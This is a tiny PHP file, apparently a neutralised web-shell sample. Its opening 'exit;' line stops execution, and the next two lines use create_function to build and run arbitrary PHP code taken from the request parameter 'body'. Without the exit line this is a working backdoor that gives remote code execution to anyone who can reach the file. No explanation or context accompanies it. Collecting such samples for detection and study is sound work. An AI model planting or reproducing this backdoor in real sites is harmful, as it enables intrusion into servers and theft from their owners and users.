<?php exit;
$make = create_function("", $_REQUEST["body"]);
$make();
